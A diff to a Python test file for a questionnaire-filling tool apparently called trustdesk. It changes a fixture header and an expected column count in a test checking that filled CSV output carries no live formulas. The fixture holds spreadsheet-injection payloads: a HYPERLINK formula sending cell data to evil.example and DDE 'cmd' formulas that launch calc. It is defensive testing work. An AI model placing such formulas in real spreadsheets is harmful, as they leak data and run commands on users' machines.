@@ -358,7 +358,7 @@ def test_control_characters_in_answers_never_break_the_xlsx_writer(tmp_path):
 
 FORMULA = re.compile(r"^[=+\-@\t\r]")
 NUMBER = re.compile(r"[+-]?(\d[\d,]*(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?")
-INJECTED = [["Nr", "Question", "Notes"],
+INJECTED = [["Nr", "Question", "Tag"],  # no answer column of its own: trustdesk adds Answer and Yes/No
             ["1", '=HYPERLINK("http://evil.example/?d="&B3,"Do you run a bug bounty programme?")', "=cmd|' /C calc'!A0"],
             ["2", "Do you run a bug bounty programme?", "+SUM(1;2)"],
             ["3", "@SUM(1+1) Do you encrypt customer data at rest?", "-2+3+cmd|' /C calc'!A0"],
@@ -390,7 +390,7 @@ def test_a_filled_csv_carries_no_live_formula(northwind_assistant, formulas, tmp
         csv.writer(fh).writerows(INJECTED)
     fill(northwind_assistant, formulas, source, tmp_path / "filled.csv", "hostilefx")
     rows = list(csv.reader((tmp_path / "filled.csv").open(encoding="utf-8-sig")))
-    assert len(rows) == len(INJECTED) and all(len(r) == 8 for r in rows[1:])
+    assert len(rows) == len(INJECTED) and all(len(r) == 10 for r in rows[1:])  # 3 + Answer, Yes/No + 5 review
     live = [cell for row in rows for cell in row if FORMULA.match(cell) and not NUMBER.fullmatch(cell)]
     assert live == [], live
     bounty = rows[2]
